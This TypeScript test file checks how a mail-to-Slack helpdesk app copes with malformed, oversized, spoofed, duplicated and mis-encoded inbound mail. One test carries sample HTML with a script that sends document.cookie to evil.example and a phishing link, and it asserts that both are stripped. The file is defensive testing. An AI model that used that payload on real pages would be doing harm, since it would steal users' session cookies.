import { asc, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { attachments, comments, fileUploads, mailMessages, tickets } from '../../src/db/schema/index.js';
import { NO_SUBJECT } from '../../src/mail/receive.js';
import type { SlackMessage } from '../harness/fakeSlack.js';
import { settle } from '../support/flows.js';
import {
  FACILITIES_CHANNEL,
  FACILITIES_MAILBOX,
  HR_MAILBOX,
  IT_MAILBOX,
  mailRowCounts,
  mrkdwnTexts,
  newMessageId,
  postInboundMail,
  rawMail,
  sendMail,
  useMailFolio,
} from '../support/mailEdge.js';

/**
 * Mail Folio should not trust, through the real app: its SMTP server on loopback fed by a real SMTP
 * client, its inbound webhook, its cards in the fake Slack. Each bad mail gets a clear answer (a
 * ticket a person can read, or a refusal the sending server reports), and nothing is half written:
 * the rows a mail can write are counted before and after.
 */

const IT_CHANNEL = 'C_IT_DESK';
const HR_CHANNEL = 'G_HR_DESK';
const INBOUND_SECRET = 'inbound-secret-of-the-test-0123';
/** SMTP_MAX_BYTES of this file's app: 1 MiB, so that a 20 MB mail is far over it. */
const MAX_BYTES = 1024 * 1024;

const mail = useMailFolio({
  env: { MAIL_INBOUND_SECRET: INBOUND_SECRET, SMTP_MAX_BYTES: String(MAX_BYTES) },
});
const db = () => mail.t.folio.services.db;
const smtpPort = () => {
  const port = mail.t.folio.smtpPort;
  if (port === undefined) throw new Error('the app has no SMTP server');
  return port;
};

const CARLA = 'carla@contractor.example';
const MALLORY = 'mallory@elsewhere.example';

/** Sends `raw` to the app by SMTP from `from` (envelope) to `to` (IT's mailbox unless told). */
const send = (raw: Buffer, from: string, to: string[] = [IT_MAILBOX]) =>
  sendMail(smtpPort(), raw, { mailFrom: from, to });

const storedTickets = () => db().select().from(tickets).orderBy(asc(tickets.id));
const storedComments = () => db().select().from(comments).orderBy(asc(comments.id));

/** The ticket `folio`'s card in `channel`, as Slack holds it. */
function cardOf(folio: string, channel = IT_CHANNEL): SlackMessage {
  const card = mail.t.fake
    .messagesIn(channel)
    .find((m) => (!m.thread_ts || m.thread_ts === m.ts) && String(m.text).startsWith(`${folio}:`));
  if (!card) throw new Error(`no card for ${folio} in ${channel}`);
  return card;
}

/** What Slack shows of a card: the notification text, then every block's text. */
const shownText = (card: SlackMessage) => JSON.stringify([card.text, card.blocks]);

/** A mail accepted, and everything it set off delivered (card, notices, mails). */
async function accepted(raw: Buffer, from: string, to?: string[]): Promise<void> {
  const answer = await send(raw, from, to);
  expect(answer).toMatchObject({ accepted: true, response: expect.stringMatching(/^250 /) });
  await settle(mail.t);
}

describe('malformed MIME', () => {
  it('makes a ticket of a multipart whose boundary never comes, with the text as sent', async () => {
    const raw = rawMail({
      from: `Carla <${CARLA}>`,
      subject: 'Broken boundary',
      contentType: 'multipart/mixed; boundary="declared-boundary"',
      body: [
        '--another-boundary',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'The badge reader at the north door refuses every card.',
        '--another-boundary--',
      ].join('\r\n'),
    });
    await accepted(raw, CARLA);

    const [ticket, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(ticket?.subject).toBe('Broken boundary');
    // The body is no part mailparser can find: it is kept whole, as a person can still read it, with
    // the line ends of every other description.
    expect(ticket?.description).toBe(
      [
        '--another-boundary',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'The badge reader at the north door refuses every card.',
        '--another-boundary--',
      ].join('\n'),
    );
    expect(shownText(cardOf('TKT001'))).toContain('The badge reader at the north door refuses every card.');
    expect(await mailRowCounts(db())).toMatchObject({ tickets: 1, comments: 0, mailMessages: 2 });
  });

  it('makes a ticket of a mail with garbage header lines, reading the fields that are there', async () => {
    const raw = Buffer.concat([
      Buffer.from(
        [
          'This line is no header field at all',
          `From: Carla <${CARLA}>`,
          `To: ${IT_MAILBOX}`,
          ':no name before the colon',
          'Subject: Garbage headers',
          `Message-ID: <${newMessageId('garbage')}>`,
          'X-Binary: ',
        ].join('\r\n'),
        'utf8',
      ),
      Buffer.from([0xff, 0xfe, 0x00, 0x01, 0x80]),
      Buffer.from(
        [
          '',
          'Content-Type: text/plain; charset=utf-8',
          'Content-Transfer-Encoding: base64',
          '',
          // Base64 with a broken tail: what decodes is kept.
          `${Buffer.from('Monitor flickers since Monday.').toString('base64')}!!*`,
          '',
        ].join('\r\n'),
        'utf8',
      ),
    ]);
    await accepted(raw, CARLA);

    const [ticket, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(ticket).toMatchObject({ subject: 'Garbage headers', requesterEmail: CARLA, source: 'email' });
    expect(ticket?.description).toContain('Monitor flickers since Monday.');
  });

  it('refuses a mail without a From: address with 550 and writes nothing', async () => {
    const before = await mailRowCounts(db());
    const answer = await send(
      rawMail({ from: 'undisclosed-recipients:;', subject: 'Who am I', body: 'Nobody to answer.' }),
      CARLA,
    );
    expect(answer).toMatchObject({ accepted: false, code: 550, command: 'DATA' });
    expect(answer.accepted || answer.response).toContain('The mail has no sender (From:) to answer.');
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });

  it('refuses what is no mail at all with 554 and writes nothing', async () => {
    const before = await mailRowCounts(db());
    const answer = await send(
      Buffer.from('just some words with no header field\r\nand more words\r\n'),
      CARLA,
    );
    expect(answer).toMatchObject({ accepted: false, code: 554, command: 'DATA' });
    expect(answer.accepted || answer.response).toMatch(/^554 5\.6\.0 .*not an RFC 5322 mail/);
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
    expect(mail.t.fake.callsTo('chat.postMessage')).toEqual([]);
  });
});

describe('what a mail carries that Folio cannot store as it is', () => {
  it('takes a mail with NUL bytes (decoded from quoted-printable, base64, an encoded word), without them', async () => {
    const raw = rawMail({
      from: CARLA,
      subject: `=?utf-8?B?${Buffer.from('Toner\u0000 empty').toString('base64')}?=`,
      inReplyTo: 'unknown\u0000@sender.example',
      headers: ['Content-Transfer-Encoding: quoted-printable'],
      body: 'Printer on floor 4=00 says: no toner.',
    });
    await accepted(raw, CARLA);

    const [ticket, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(ticket).toMatchObject({
      subject: 'Toner empty',
      description: 'Printer on floor 4 says: no toner.',
    });
    const [received] = await db().select().from(mailMessages).where(eq(mailMessages.direction, 'in'));
    expect(received).toMatchObject({
      subject: 'Toner empty',
      bodyText: 'Printer on floor 4 says: no toner.',
    });
    expect(cardOf('TKT001').text).toBe('TKT001: Toner empty (Open, Medium)');
  });

  it('takes a mail from an internationalized domain, and answers it at the ASCII form of the domain', async () => {
    // On the wire the domain is in its ASCII form; mailparser gives it back in Unicode (müller.example).
    const sender = 'joerg@xn--mller-kva.example';
    await accepted(rawMail({ from: `Jörg <${sender}>`, subject: 'Wifi password' }), sender);

    const [ticket] = await storedTickets();
    expect(ticket).toMatchObject({ folio: 'TKT001', requesterEmail: sender, requesterName: 'Jörg' });
    const notice = await mail.sink.waitFor((m) => m.subject.includes('[TKT001]'));
    // As written on the wire (the sink, like any parser, shows the domain in Unicode).
    expect(notice.header('to')).toContain(sender);
  });

  it('takes mail for a desk mailbox at an internationalized domain', async () => {
    // Sending servers write the domain in ASCII (RCPT TO:<facilities@xn--bro-hoa.example>).
    await accepted(rawMail({ from: CARLA, to: FACILITIES_MAILBOX, subject: 'Broken chair' }), CARLA, [
      FACILITIES_MAILBOX,
    ]);
    const [ticket] = await storedTickets();
    expect(ticket).toMatchObject({ folio: 'TKT001', deskKey: 'facilities', subject: 'Broken chair' });
    expect(cardOf('TKT001', FACILITIES_CHANNEL).text).toBe('TKT001: Broken chair (Open, Medium)');
  });

  it('refuses for good (554) a sender address no mail can be sent back to, and writes nothing', async () => {
    const before = await mailRowCounts(db());
    // SMTP carries at most 254 characters of an address (RFC 5321 §4.5.3.1.3).
    const answer = await send(rawMail({ from: `${'a'.repeat(300)}@sender.example`, subject: 'Hi' }), CARLA);
    expect(answer).toMatchObject({ accepted: false, code: 554, command: 'DATA' });
    expect(answer.accepted || answer.response).toBe(
      '554 5.6.0 Folio cannot take this mail: Give a valid mail address.',
    );
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });
});

describe('a mail with more files than a Slack message carries', () => {
  it('keeps every file: each is uploaded to the card’s thread and recorded on the ticket', async () => {
    const names = Array.from({ length: 12 }, (_, index) => `receipt-${index + 1}.pdf`);
    const raw = rawMail({
      from: CARLA,
      subject: 'Receipts for March',
      contentType: 'multipart/mixed; boundary="files"',
      body: [
        '--files',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'All twelve receipts attached.',
        ...names.flatMap((name, index) => [
          '--files',
          'Content-Type: application/pdf',
          `Content-Disposition: attachment; filename="${name}"`,
          'Content-Transfer-Encoding: base64',
          '',
          Buffer.from(`%PDF receipt ${index + 1}`).toString('base64'),
        ]),
        '--files--',
      ].join('\r\n'),
    });
    await accepted(raw, CARLA);

    const card = cardOf('TKT001');
    expect(mail.t.fake.uploads.map((upload) => upload.name).sort()).toEqual([...names].sort());
    expect(new Set(mail.t.fake.uploads.map((upload) => upload.threadTs))).toEqual(new Set([card.ts]));
    const recorded = await db().select().from(attachments).orderBy(asc(attachments.id));
    expect(recorded.map((file) => file.name).sort()).toEqual([...names].sort());
    // Their bytes are no longer held once in Slack.
    const held = await db().select().from(fileUploads);
    expect(held.map((upload) => [upload.content, upload.uploadedAt !== null])).toEqual(
      names.map(() => [null, true]),
    );
  });
});

describe('a mail without a subject', () => {
  it('is called by the first line of its body', async () => {
    await accepted(
      rawMail({
        from: CARLA,
        body: '\r\n  The projector in room 4 shows no picture.  \r\nIt worked on Friday.',
      }),
      CARLA,
    );
    const [ticket] = await storedTickets();
    expect(ticket?.subject).toBe('The projector in room 4 shows no picture.');
    expect(cardOf('TKT001').text).toBe('TKT001: The projector in room 4 shows no picture. (Open, Medium)');
  });

  it('is called "(no subject)" when its body is empty too', async () => {
    await accepted(rawMail({ from: CARLA, subject: '   ', body: '' }), CARLA);
    const [ticket] = await storedTickets();
    expect(ticket?.subject).toBe(NO_SUBJECT);
    expect(ticket?.description ?? '').toBe('');
    expect(cardOf('TKT001').text).toBe(`TKT001: ${NO_SUBJECT} (Open, Medium)`);
  });
});

describe('a mail over the size limit', () => {
  it('is refused at DATA with 552 and nothing written; the next mail goes through', async () => {
    const before = await mailRowCounts(db());
    // 20 MB of text lines: what a scanner's unbounded PDF-as-text looks like.
    const line = `${'x'.repeat(998)}\r\n`;
    const body = line.repeat(Math.ceil((20 * 1000 * 1000) / line.length));
    const answer = await send(rawMail({ from: CARLA, subject: 'Scan', body }), CARLA);
    expect(answer).toMatchObject({ accepted: false, code: 552, command: 'DATA' });
    expect(answer.accepted || answer.response).toMatch(/^552 5\.3\.4 /);
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);

    await accepted(rawMail({ from: CARLA, subject: 'Scan, smaller', body: 'Now as a link.' }), CARLA);
    expect((await storedTickets()).map((ticket) => ticket.subject)).toEqual(['Scan, smaller']);
  });
});

describe('mail in another charset than UTF-8', () => {
  it('reads ISO-8859-1 in the subject (encoded word) and in an 8-bit body', async () => {
    const subject = 'Écran noir au café';
    const body = 'Le poste de l’accueil ne démarre plus: écran noir, ventilateur à fond.';
    const raw = rawMail({
      from: `=?ISO-8859-1?Q?${encodeQ(Buffer.from('José Muñoz', 'latin1'))}?= <${CARLA}>`,
      subject: `=?ISO-8859-1?Q?${encodeQ(Buffer.from(subject, 'latin1'))}?=`,
      contentType: 'text/plain; charset=ISO-8859-1',
      headers: ['Content-Transfer-Encoding: 8bit'],
      // ’ is not in Latin-1: written as ' in the bytes sent.
      body: Buffer.from(body.replace('’', "'"), 'latin1'),
    });
    await accepted(raw, CARLA);

    const [ticket] = await storedTickets();
    expect(ticket?.subject).toBe(subject);
    expect(ticket?.description).toBe(body.replace('’', "'"));
    expect(ticket?.requesterName).toBe('José Muñoz');
    const card = cardOf('TKT001');
    expect(card.text).toBe(`TKT001: ${subject} (Open, Medium)`);
    expect(mrkdwnTexts(card.blocks)).toContain(body.replace('’', "'"));
    expect(mrkdwnTexts(card.blocks)).toContain(`*Requester*\nJosé Muñoz (${CARLA})`);
  });

  it('reads Shift_JIS in the subject (encoded word) and in an 8-bit body', async () => {
    // The bytes are written out so the test does not depend on an encoder; Node's decoder checks them.
    const subjectBytes = Buffer.from('8376838a8393835e815b82aa93ae82ab82dc82b982f1', 'hex');
    const bodyBytes = Buffer.from('8e4f8a4b82cc8376838a8393835e815b82aa8e868b6c82dc82e882c582b78142', 'hex');
    const subject = 'プリンターが動きません';
    const body = '三階のプリンターが紙詰まりです。';
    expect(new TextDecoder('shift_jis').decode(subjectBytes)).toBe(subject);
    expect(new TextDecoder('shift_jis').decode(bodyBytes)).toBe(body);

    const raw = rawMail({
      from: CARLA,
      subject: `=?Shift_JIS?B?${subjectBytes.toString('base64')}?=`,
      contentType: 'text/plain; charset=Shift_JIS',
      headers: ['Content-Transfer-Encoding: 8bit'],
      body: bodyBytes,
    });
    await accepted(raw, CARLA);

    const [ticket] = await storedTickets();
    expect(ticket?.subject).toBe(subject);
    expect(ticket?.description).toBe(body);
    const card = cardOf('TKT001');
    expect(card.text).toBe(`TKT001: ${subject} (Open, Medium)`);
    expect(mrkdwnTexts(card.blocks)).toContain(body);
  });
});

describe('an HTML-only mail with a script', () => {
  it('becomes text only, and <!channel> in its subject or body pings nobody', async () => {
    const raw = rawMail({
      from: CARLA,
      subject: '<!channel> Server room is flooding',
      contentType: 'text/html; charset=utf-8',
      body: [
        '<html><head><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
        '<style>p { color: red }</style></head>',
        '<body><p>Water under the <b>racks</b> &amp; rising.</p>',
        '<p>&lt;!channel&gt; <!channel> call facilities</p>',
        '<script type="text/javascript">alert("pwned")</script>',
        '<a href="https://evil.example/login">Reset your password</a></body></html>',
      ].join('\r\n'),
    });
    await accepted(raw, CARLA);

    const [ticket] = await storedTickets();
    expect(ticket?.subject).toBe('<!channel> Server room is flooding');
    const description = ticket?.description ?? '';
    expect(description).toContain('Water under the racks & rising.');
    expect(description).toContain('call facilities');
    for (const code of ['fetch(', 'document.cookie', 'alert(', 'color: red', '<script', '<p>', '<b>']) {
      expect(description).not.toContain(code);
    }

    const card = cardOf('TKT001');
    // Slack parses mentions in mrkdwn and in the notification text; plain_text shows them as typed.
    const parsed = [String(card.text), ...mrkdwnTexts(card.blocks)];
    for (const text of parsed) {
      expect(text).not.toContain('<!channel>');
      expect(text).not.toContain('<https://evil.example');
      expect(text).not.toContain('alert(');
    }
    expect(card.text).toBe('TKT001: &lt;!channel&gt; Server room is flooding (Open, Medium)');
    expect(parsed.join('\n')).toContain('&lt;!channel&gt; call facilities');
  });
});

describe('a mail whose text part is blank beside its HTML', () => {
  it('is read from its HTML, as text, without its script', async () => {
    const raw = rawMail({
      from: CARLA,
      subject: 'Blank text part',
      contentType: 'multipart/alternative; boundary="alt"',
      body: [
        '--alt',
        'Content-Type: text/plain; charset=utf-8',
        '',
        '  ',
        '--alt',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>The <b>scanner</b> on floor 2 jams.</p><script>alert("pwned")</script>',
        '--alt--',
      ].join('\r\n'),
    });
    await accepted(raw, CARLA);
    const [ticket] = await storedTickets();
    expect(ticket?.description).toBe('The scanner on floor 2 jams.');
    expect(mrkdwnTexts(cardOf('TKT001').blocks)).toContain('The scanner on floor 2 jams.');
  });
});

describe('a reply naming a ticket its sender may not see', () => {
  it('from another outside address: a new ticket, never a comment on the contractor’s', async () => {
    await accepted(rawMail({ from: `Carla <${CARLA}>`, subject: 'VPN certificate expired' }), CARLA);
    // The contractor hears by mail: the thread the stranger pretends to answer.
    const notice = await mail.sink.waitFor((m) => m.subject.includes('[TKT001]'));
    expect(notice.to.map((to) => to.address)).toEqual([CARLA]);

    await accepted(
      rawMail({
        from: MALLORY,
        subject: `Re: ${notice.subject}`,
        inReplyTo: notice.messageId,
        references: `<${notice.messageId}>`,
        body: 'Please send the new certificate to me instead.',
      }),
      MALLORY,
    );

    const [original, stray, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(original).toMatchObject({ folio: 'TKT001', requesterEmail: CARLA, status: 'open' });
    expect(stray).toMatchObject({
      folio: 'TKT002',
      subject: 'VPN certificate expired',
      requesterId: null,
      requesterEmail: MALLORY,
      description: 'Please send the new certificate to me instead.',
    });
    expect(await storedComments()).toEqual([]);
    // The stranger's mail is the new ticket's, not the contractor's.
    const [strangerMail] = await db().select().from(mailMessages).where(eq(mailMessages.address, MALLORY));
    expect(strangerMail?.ticketId).toBe(stray?.id);
    // Nothing of it in the first ticket's card thread; the stranger's ticket has a card of its own.
    const card = cardOf('TKT001');
    expect(
      mail.t.fake.messagesIn(IT_CHANNEL).filter((m) => m.thread_ts === card.ts && m.ts !== card.ts),
    ).toEqual([]);
    expect(cardOf('TKT002').text).toBe('TKT002: VPN certificate expired (Open, Medium)');
    // Only the stranger hears about the stranger's ticket.
    const second = await mail.sink.waitFor((m) => m.subject.includes('[TKT002]'));
    expect(second.to.map((to) => to.address)).toEqual([MALLORY]);
    expect(mail.sink.messages.filter((m) => m.subject.includes('[TKT001]'))).toHaveLength(1);
  });

  it('about a private HR ticket, from a member who is not its requester: a new ticket', async () => {
    const RAUL = 'U_REQ_RAUL';
    mail.t.fake.setUserEmail(RAUL, 'raul@acme.example');
    await accepted(
      rawMail({ from: CARLA, to: HR_MAILBOX, subject: 'Salary slip for March', body: 'Mine is missing.' }),
      CARLA,
      [HR_MAILBOX],
    );
    const notice = await mail.sink.waitFor((m) => m.subject.includes('[TKT001]'));

    await accepted(
      rawMail({
        from: 'raul@acme.example',
        to: HR_MAILBOX,
        subject: `Re: ${notice.subject}`,
        inReplyTo: notice.messageId,
        body: 'What does it say?',
      }),
      'raul@acme.example',
      [HR_MAILBOX],
    );

    const [hrTicket, stray, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(hrTicket).toMatchObject({ folio: 'TKT001', deskKey: 'hr', requesterEmail: CARLA });
    expect(stray).toMatchObject({
      folio: 'TKT002',
      deskKey: 'hr',
      requesterId: RAUL,
      subject: 'Salary slip for March',
      description: 'What does it say?',
    });
    expect(await storedComments()).toEqual([]);
    expect(shownText(cardOf('TKT001', HR_CHANNEL))).not.toContain('What does it say?');
  });
});

describe('mail to an address that is no desk mailbox', () => {
  it('is refused at RCPT TO with 550 and nothing written', async () => {
    const before = await mailRowCounts(db());
    const answer = await send(rawMail({ from: CARLA, to: 'ceo@folio.test', subject: 'Hi' }), CARLA, [
      'ceo@folio.test',
    ]);
    expect(answer).toMatchObject({ accepted: false, code: 550, command: 'RCPT TO' });
    expect(answer.accepted || answer.response).toMatch(/^550 5\.1\.1 <ceo@folio\.test>/);
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });
});

describe('the same mail delivered twice at once', () => {
  it('makes one ticket, and both deliveries are answered 250', async () => {
    const raw = rawMail({ from: CARLA, subject: 'Twice', messageId: newMessageId('twice') });
    const answers = await Promise.all([send(raw, CARLA), send(raw, CARLA)]);
    expect(answers.map((answer) => answer.accepted)).toEqual([true, true]);
    await settle(mail.t);
    expect((await storedTickets()).map((ticket) => ticket.subject)).toEqual(['Twice']);
    expect(await mailRowCounts(db())).toMatchObject({ tickets: 1, comments: 0 });
    expect(mail.t.fake.callsTo('chat.postMessage').filter((c) => c.args.channel === IT_CHANNEL)).toHaveLength(
      1,
    );
  });
});

describe('the same reply delivered twice at once', () => {
  it('makes one comment', async () => {
    await accepted(rawMail({ from: CARLA, subject: 'Keyboard' }), CARLA);
    const notice = await mail.sink.waitFor((m) => m.subject.includes('[TKT001]'));
    const reply = rawMail({
      from: CARLA,
      subject: `Re: ${notice.subject}`,
      inReplyTo: notice.messageId,
      body: 'The Q key sticks too.',
    });
    const answers = await Promise.all([send(reply, CARLA), send(reply, CARLA)]);
    expect(answers.map((answer) => answer.accepted)).toEqual([true, true]);
    await settle(mail.t);
    expect((await storedComments()).map((comment) => [comment.authorEmail, comment.body])).toEqual([
      [CARLA, 'The Q key sticks too.'],
    ]);
    expect(await mailRowCounts(db())).toMatchObject({ tickets: 1, comments: 1 });
    const card = cardOf('TKT001');
    expect(
      mail.t.fake.messagesIn(IT_CHANNEL).filter((m) => m.thread_ts === card.ts && m.ts !== card.ts),
    ).toHaveLength(1);
  });
});

describe('the inbound webhook', () => {
  const webhookMail = () =>
    rawMail({
      from: `Carla <${CARLA}>`,
      to: `IT desk <${IT_MAILBOX}>`,
      subject: 'Forwarded by our provider',
      messageId: newMessageId('webhook'),
      body: 'The shared drive asks for a password again.',
    });

  it('refuses a missing or wrong secret with 401 and writes nothing', async () => {
    const before = await mailRowCounts(db());
    const raw = webhookMail();
    for (const secret of [undefined, '', 'wrong-secret-of-the-same-size-0', `${INBOUND_SECRET}x`]) {
      const answer = await postInboundMail(mail.t.folio.port, raw, secret);
      expect(answer).toEqual({ status: 401, body: { error: 'unauthorized' } });
    }
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });

  it('refuses with 422 a mail for no desk mailbox, or no mail at all, and writes nothing', async () => {
    const before = await mailRowCounts(db());
    const elsewhere = rawMail({ from: CARLA, to: 'ceo@folio.test', subject: 'Hi', body: 'Hello.' });
    expect(await postInboundMail(mail.t.folio.port, elsewhere, INBOUND_SECRET)).toEqual({
      status: 422,
      body: { error: 'No desk has this mailbox.', code: 550 },
    });
    const noMail = Buffer.from('just some words with no header field\r\n');
    expect(await postInboundMail(mail.t.folio.port, noMail, INBOUND_SECRET)).toMatchObject({
      status: 422,
      body: { code: 554 },
    });
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });

  it('refuses with 413 a mail over SMTP_MAX_BYTES and writes nothing', async () => {
    const before = await mailRowCounts(db());
    const large = rawMail({ from: CARLA, subject: 'Scan', body: 'x'.repeat(MAX_BYTES + 1) });
    expect(await postInboundMail(mail.t.folio.port, large, INBOUND_SECRET)).toEqual({
      status: 413,
      body: { error: `message over ${MAX_BYTES} bytes` },
    });
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(before);
  });

  it('takes a raw mail with the right secret (202), and the same mail again changes nothing', async () => {
    const raw = webhookMail();
    expect(await postInboundMail(mail.t.folio.port, raw, INBOUND_SECRET)).toEqual({
      status: 202,
      body: { accepted: true },
    });
    await settle(mail.t);
    const once = await mailRowCounts(db());
    const [ticket, ...others] = await storedTickets();
    expect(others).toEqual([]);
    expect(ticket).toMatchObject({
      folio: 'TKT001',
      deskKey: 'it',
      subject: 'Forwarded by our provider',
      description: 'The shared drive asks for a password again.',
      requesterEmail: CARLA,
      requesterName: 'Carla',
      source: 'email',
    });
    expect(cardOf('TKT001').text).toBe('TKT001: Forwarded by our provider (Open, Medium)');

    expect(await postInboundMail(mail.t.folio.port, raw, INBOUND_SECRET)).toEqual({
      status: 202,
      body: { accepted: true },
    });
    await settle(mail.t);
    expect(await mailRowCounts(db())).toEqual(once);
    expect(mail.t.fake.callsTo('chat.postMessage').filter((c) => c.args.channel === IT_CHANNEL)).toHaveLength(
      1,
    );
  });
});

/** RFC 2047 Q encoding of bytes: what a mail client writes in an encoded word. */
function encodeQ(bytes: Buffer): string {
  return [...bytes]
    .map((byte) =>
      byte === 0x20
        ? '_'
        : /[A-Za-z0-9]/.test(String.fromCharCode(byte))
          ? String.fromCharCode(byte)
          : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}
